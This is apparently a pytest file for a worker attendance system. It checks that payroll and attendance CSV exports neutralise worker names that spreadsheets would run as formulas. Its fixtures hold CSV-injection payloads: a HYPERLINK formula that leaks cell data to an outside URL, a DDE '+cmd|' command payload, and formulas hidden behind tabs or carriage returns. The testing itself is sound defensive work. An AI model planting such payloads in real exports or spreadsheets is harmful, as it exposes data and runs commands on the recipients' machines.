"""Worker names that a spreadsheet would run as formulas reach the CSV exports as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace

import pytest

from collector.export import neutralise
from collector.ingest.pipeline import Incoming, Ingestor
from gate_agent.protocol import GateTopics, encode_punches, format_time
from tests.helpers import CollectorSetup, PunchFactory

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Through `collector worker import` (a CSV file from outside): name, employer.
IMPORTED = {
    "W01": ('=HYPERLINK("http://x/?"&A1,"Click")', "Hua Jian"),
    "W02": ("+cmd|' /C calc'!A0", "=1+1"),
    "W03": ("@SUM(1+1)", "@evil"),
    "W04": ("-2+3", "-Builders"),
    "W05": ("'=already quoted", "Xin Cheng"),
    "W06": ("Zhang Wei", "Hua Jian"),
}
# Through `collector worker add`: a name is stripped as every entered text is (collector/text.py), a tab
# and a CR included, so the formula that hid behind them is what is stored, and exported as text.
ADDED = {
    "W07": ("\t=1+1", "+tab employer"),
    "W08": ("\r=1+1", "\rCR employer"),
}
NUMBER_COLUMNS = ("worked_minutes", "days_present", "days_flagged", "provisional_days")


def collector(setup: CollectorSetup, *args: str) -> str:
    """Run a command and return its stdout exactly (text mode would turn a CR into a newline)."""
    return setup.run(*args, text=False).stdout.decode("utf-8")


def rows_of(text: str) -> list[dict]:
    assert text.startswith("\ufeff"), "CSV for Excel starts with a byte order mark"
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_formula_names_from_an_import_and_the_cli_reach_payroll_and_attendance_csv_as_text(tmp_path):
    setup = CollectorSetup.create(tmp_path / "collector", broker=SimpleNamespace(port=1883))
    gate = PunchFactory(gate="north")
    with setup.store() as store:
        store.add_site("S1", timezone="UTC")
        store.add_gate("S1", "north", gate.public_key)
    cards = {worker: f"0A0B0C{index:02X}" for index, worker in enumerate(sorted(IMPORTED | ADDED), 1)}
    csv_file = tmp_path / "workers.csv"
    with open(csv_file, "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["worker", "name", "card", "employer", "site"])
        for worker, (name, employer) in IMPORTED.items():
            writer.writerow([worker, name, cards[worker], employer, "S1"])
    collector(setup, "worker", "import", str(csv_file))
    for worker, (name, employer) in ADDED.items():
        collector(setup, "worker", "add", worker, "--name", name, "--employer", employer, "--card", cards[worker],
                  "--site", "S1")

    start = datetime(2026, 11, 28, 8, 0, tzinfo=UTC)
    punches = []
    for card in cards.values():
        punches.append(gate.next(card=card, direction="in", at=start))
        punches.append(gate.next(card=card, direction="out", at=start + timedelta(hours=1)))
    with setup.store() as store:
        Ingestor(store).ingest([Incoming(GateTopics("S1", "north").punch, encode_punches(punches),
                                         format_time(start + timedelta(hours=2)))])
        stored = {w["worker"]: (w["name"], w["employer"]) for w in store.workers()}
    assert stored == {worker: (name.strip(), employer.strip()) for worker, (name, employer) in (IMPORTED | ADDED).items()}

    payroll = rows_of(collector(setup, "payroll", "--site", "S1", "--from", "2026-11-28", "--to", "2026-11-28",
                                "--csv"))
    attendance = rows_of(collector(setup, "attendance", "--site", "S1", "--date", "2026-11-28", "--csv"))
    for rows in (payroll, attendance):
        assert sorted(row["worker"] for row in rows) == sorted(stored)
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
            name, employer = stored[row["worker"]]
            # The quote is the only change: removing one leading quote gives the text back.
            assert row["name"] == neutralise(name) and row["employer"] == neutralise(employer)
            assert row["name"].removeprefix("'") == name and row["employer"].removeprefix("'") == employer
            assert row["name"] == name or row["name"] == "'" + name
            assert row["worked_minutes"] == "60" and row["hours"] == "1.00"
            for column in NUMBER_COLUMNS:
                if column in row:
                    int(row[column])
    quoted = {row["worker"]: row["name"] for row in payroll}
    assert quoted["W01"] == "'" + IMPORTED["W01"][0]
    assert quoted["W05"] == "''=already quoted"
    assert quoted["W06"] == "Zhang Wei"
    assert quoted["W07"] == "'=1+1" and quoted["W08"] == "'=1+1"


@pytest.mark.parametrize("cell", ["\t=1+1", "\r=1+1", "\t@SUM(1)"])
def test_a_stored_cell_that_hides_a_formula_behind_white_space_is_written_as_text(cell):
    """Text stored before names were checked (or written around the collector) is still neutralised."""
    from collector.export import PAYROLL_COLUMNS, to_csv

    row = {"worker": "W1", "name": cell, "employer": None, "days_present": 0, "worked_minutes": 0,
           "days_flagged": 0, "provisional_days": 0}
    (written,) = rows_of(to_csv([row], PAYROLL_COLUMNS))
    assert written["name"] == "'" + cell


def test_negative_and_signed_numbers_we_write_stay_numbers():
    from collector.export import PAYROLL_COLUMNS, to_csv

    row = {"worker": "W1", "name": "-1", "employer": None, "days_present": 0, "worked_minutes": 0,
           "days_flagged": 0, "provisional_days": 0}
    parsed = rows_of(to_csv([row], PAYROLL_COLUMNS))[0]
    assert parsed["name"] == "'-1" and parsed["employer"] == ""
    assert (parsed["worked_minutes"], parsed["hours"], parsed["days_present"]) == ("0", "0.00", "0")
